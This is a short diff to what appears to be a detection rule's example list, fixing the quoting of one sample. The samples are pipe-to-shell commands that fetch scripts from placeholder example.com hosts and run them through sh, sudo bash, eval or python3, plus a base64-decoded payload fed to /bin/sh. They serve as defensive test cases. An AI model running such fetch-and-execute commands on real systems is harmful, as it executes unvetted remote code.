@@ -18,7 +18,7 @@ RULE = Rule(
         "script: curl -fsSL https://get.example.com | sh",
         'script: "curl -s https://x.example.com/i.sh | tee /tmp/i |\\n  sudo -E bash -s -- --yes"',
         "script: bash <(wget -qO- https://x.example.com/i.sh)",
-        'script: ''eval "$(curl -s https://x.example.com/env)"''',
+        'script: eval "$(curl -s https://x.example.com/env)"',
         "script: echo aWQK | base64 -d | /bin/sh",
         "pod: {containers: [{name: a, command: [sh, -c], args: ['wget -O- http://x.example.com/i | bash']}]}",
         "script: curl -s https://x.example.com/i.py | python3 -",
